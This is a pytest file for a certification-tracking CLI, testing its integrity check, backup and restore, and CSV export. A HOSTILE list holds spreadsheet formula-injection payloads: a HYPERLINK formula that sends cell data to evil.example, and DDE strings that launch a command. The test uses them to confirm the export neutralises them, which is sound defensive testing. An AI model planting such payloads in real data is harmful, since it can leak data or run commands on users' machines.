"""The command line's safety commands: check (exit 1 with a list), backup, restore; files written
owner-only and atomically; formula cells neutralised end to end; --db is only a file name."""

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from certdesk.store import open_store
from certdesk.store.backup import list_backups

HEADER = "employee_no,full_name,email,job_title,site,work_state,hire_date\n"


@pytest.fixture
def db(db_path: Path, run_cli, sample_csv: Path) -> Path:
    """A database holding the sample managers."""
    code, _, err = run_cli("--db", db_path, "import", "managers", sample_csv)
    assert code == 0, err
    return db_path


def corrupt_middle(path: Path) -> None:
    with sqlite3.connect(path) as conn:  # enough pages that the middle one is in use
        conn.execute("CREATE TABLE IF NOT EXISTS padding (x)")
        conn.executemany("INSERT INTO padding VALUES (?)", [("x" * 200,)] * 400)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # every page in the file itself
    conn.close()
    size = path.stat().st_size
    with open(path, "r+b") as handle:
        handle.seek((size // 4096 // 2) * 4096)
        handle.write(b"\xde\xad\xbe\xef" * 1024)


def test_check_lists_broken_invariants_on_stdout_and_exits_1(db: Path, run_cli) -> None:
    for number in ("H-9002", "H-9003"):
        assert run_cli("--db", db, "path", "add", number, "CCCM")[0] == 0
    raw = sqlite3.connect(db)  # departures written around certdesk: the paths stay planned
    with raw:
        raw.execute(
            "UPDATE employees SET status = 'departed', departure_date = '2026-01-31' "
            "WHERE employee_no IN ('H-9002', 'H-9003')"
        )
    raw.close()
    code, out, err = run_cli("--db", db, "check")
    assert code == 1
    assert out.splitlines() == [
        "invariant: departed manager with a path still planned, approved or enrolled (rows 1, 2)"
    ]
    assert err == "1 problem(s) found\n"


def test_check_with_a_dangling_foreign_key_exits_1_with_the_list(db: Path, run_cli) -> None:
    raw = sqlite3.connect(db)
    with raw:
        raw.execute("INSERT INTO paths (employee_id, certification_id) VALUES (424242, 1)")
        raw.execute("INSERT INTO paths (employee_id, certification_id) VALUES (424243, 1)")
    raw.close()
    code, out, err = run_cli("--db", db, "check")
    assert code == 1
    # Already refused on opening: the error lists each finding on its own line.
    found = [line for line in (out + err).splitlines() if "foreign key: paths row" in line]
    assert len(found) == 2
    assert "Traceback" not in err


def test_check_on_a_corrupted_file_exits_1_naming_the_damage(db: Path, run_cli) -> None:
    corrupt_middle(db)
    before = db.read_bytes()
    code, out, err = run_cli("--db", db, "check")
    assert code == 1
    assert out == ""
    assert err.startswith("error: database: ")
    # Which page the garbage hits depends on the schema: a finding, or SQLite's own refusal.
    assert "is damaged" in err and ("integrity:" in err or "malformed" in err)
    assert "Traceback" not in err
    assert db.read_bytes() == before  # checked, not written


def test_backup_then_restore_after_damage(db: Path, run_cli) -> None:
    code, out, _ = run_cli("--db", db, "backup")
    assert code == 0
    backup = Path(out.strip())
    corrupt_middle(db)
    assert run_cli("--db", db, "check")[0] == 1

    code, out, err = run_cli("--db", db, "restore", backup)
    assert code == 0, err
    assert f"restored from {backup}" in out
    assert "the database it replaced is kept in" in out
    code, out, _ = run_cli("--db", db, "check")
    assert code == 0 and out.startswith("ok")
    kinds = sorted(b.kind for b in list_backups(db))
    assert kinds == ["", "before-restore"]


def test_restore_refuses_a_damaged_backup_and_changes_nothing(
    db: Path, run_cli, tmp_path: Path, file_fingerprint
) -> None:
    code, out, _ = run_cli("--db", db, "backup", "-o", tmp_path / "copy.db")
    assert code == 0
    corrupt_middle(tmp_path / "copy.db")
    before = file_fingerprint(db)
    code, out, err = run_cli("--db", db, "restore", tmp_path / "copy.db")
    assert code == 1
    assert err.startswith("error: backup: copy.db is damaged")
    assert file_fingerprint(db) == before


def test_restore_needs_a_backup_argument(db: Path, run_cli) -> None:
    assert run_cli("--db", db, "restore")[0] == 2


HOLD = """
import sys
from certdesk.services.safety.backups import open_for_app
opened = open_for_app(sys.argv[1])
print("open", flush=True)
sys.stdin.read()
"""


def test_restore_is_refused_while_the_window_has_the_database(
    db: Path, run_cli, tmp_path: Path
) -> None:
    code, out, _ = run_cli("--db", db, "backup", "-o", tmp_path / "copy.db")
    window = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    try:
        assert window.stdout is not None and window.stdout.readline().strip() == b"open"
        code, out, err = run_cli("--db", db, "restore", tmp_path / "copy.db")
        assert code == 1
        assert "is already open in certdesk (process" in err
    finally:
        window.kill()
        window.wait(timeout=10)


HOSTILE = [
    ("F-1", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("F-2", "+cmd|' /C calc'!A0"),
    ("F-3", "-2+3"),
    ("F-4", "@SUM(1+1)*cmd|' /C calc'!A0"),
]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_export_of_formula_cells_is_safe_owner_only_and_atomic(
    db_path: Path, run_cli, write_file, tmp_path: Path
) -> None:
    rows = "".join(f'{no},"{name.replace(chr(34), chr(34) * 2)}",,,,,\n' for no, name in HOSTILE)
    code, _, err = run_cli(
        "--db", db_path, "import", "managers", write_file("in.csv", HEADER + rows)
    )
    assert code == 0, err
    # A job title starting with a tab or CR (an HR system export can hold anything).
    store = open_store(db_path)
    try:
        with store.transaction() as conn:
            conn.execute("UPDATE employees SET job_title = '\tTab' WHERE employee_no = 'F-1'")
            conn.execute(
                "UPDATE employees SET job_title = char(13) || 'CR' WHERE employee_no = 'F-2'"
            )
    finally:
        store.close()

    out_file = tmp_path / "out" / "managers.csv"
    code, _, err = run_cli("--db", db_path, "export", "managers", "-o", out_file)
    assert code == 0, err
    assert out_file.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in out_file.parent.iterdir()] == ["managers.csv"]  # no temp left
    cells = [
        cell
        for row in csv.reader(io.StringIO(out_file.read_bytes().decode("utf-8"), newline=""))
        for cell in row
    ]
    for _, name in HOSTILE:
        assert "'" + name in cells
    assert "'\tTab" in cells and "'\rCR" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("name", [":memory:", "file:managers.db?mode=memory"])
def test_db_argument_is_a_file_name_in_the_current_folder(
    name: str, run_cli, sample_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert run_cli("--db", name, "import", "managers", sample_csv)[0] == 0
    assert (tmp_path / name).is_file()
    code, out, _ = run_cli("--db", name, "list", "managers", "--json")
    assert code == 0 and "H-9001" in out  # the data is really in that file
